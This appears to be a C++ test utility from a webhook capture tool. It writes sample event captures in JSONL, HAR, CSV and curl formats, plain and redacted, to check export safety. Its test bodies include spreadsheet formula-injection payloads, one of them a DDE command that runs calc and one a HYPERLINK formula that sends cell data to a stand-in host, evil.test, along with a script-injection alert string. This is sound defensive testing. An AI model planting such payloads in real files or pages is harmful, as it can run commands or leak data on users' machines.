// SPDX-FileCopyrightText: 2026 Ringback contributors
// SPDX-License-Identifier: GPL-3.0-or-later

// Usage: export_samples DIRECTORY. Writes a capture of ordinary and hostile events in every export format,
// plain and redacted, for verify_exports.sh to open with other programs.

#include "../capture/exportsamples.h"

#include <QDir>
#include <QFile>

#include <array>
#include <cstdio>

using namespace Qt::StringLiterals;
using namespace ringback;

namespace {

QList<Event> hostileCapture()
{
    QList<Event> events = sampleCapture();
    const QByteArrayList bodies{"=1+1",
                                "+447700900123",
                                "-2+3",
                                "@SUM(A1)",
                                "\t=1+1",
                                "\r=1+1",
                                " =1+1",
                                "\"=1+1\"",
                                "'=1+1",
                                "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
                                "=cmd|'/c calc'!A1",
                                "a;=1+1",
                                "a,\"b\"\r\n=1+1",
                                "é € 😀 日本",
                                "</script><script>alert(1)</script>",
                                QByteArray("nul\0", 4),
                                "\xff\xfe",
                                "\uff1d1+1",
                                R"({"to":"447700900123","sig":"0123456789abcdef","text":"hi"})"};
    for (const QByteArray &body : bodies) {
        HttpRequest request = requestFrom(
            "POST /webhooks/inbound?a[b]=%3D1&%zz=+&c HTTP/1.1\r\nHost: hooks.example.test\r\n\r\n");
        request.body = body;
        request.fieldSection += "Content-Length: " + QByteArray::number(body.size()) + "\r\n";
        Event event = sampleEvent(request, events.size() + 1);
        event.digest.from = "+447700900123";
        event.reply = SentReply{
            .decision = {.reply = {.status = 204, .headers = {}, .body = {}}, .decidedBy = "default"},
            .after = std::chrono::microseconds{700}};
        events += event;
    }
    return events;
}

} // namespace

int main(int argc, char *argv[])
{
    if (argc != 2) {
        std::fputs("usage: export_samples DIRECTORY\n", stderr);
        return 2;
    }
    const QDir directory(QString::fromLocal8Bit(argv[1]));
    const std::array<std::pair<QString, ExportFormat>, 4> formats{{{u"jsonl"_s, ExportFormat::JsonLines},
                                                                   {u"har"_s, ExportFormat::Har},
                                                                   {u"csv"_s, ExportFormat::Csv},
                                                                   {u"sh"_s, ExportFormat::Curl}}};
    for (const auto &[suffix, format] : formats) {
        for (const bool isRedacted : {false, true}) {
            ExportOptions options{.format = format};
            if (isRedacted)
                options.redactor = Redactor();
            const QString name = QString((isRedacted ? u"redacted."_s : u"plain."_s) + suffix);
            QFile file(directory.filePath(name));
            if (!file.open(QIODevice::WriteOnly) || file.write(exported(hostileCapture(), options)) <= 0) {
                std::fprintf(stderr, "%s: %s\n", qPrintable(name), qPrintable(file.errorString()));
                return 3;
            }
        }
    }
    return 0;
}
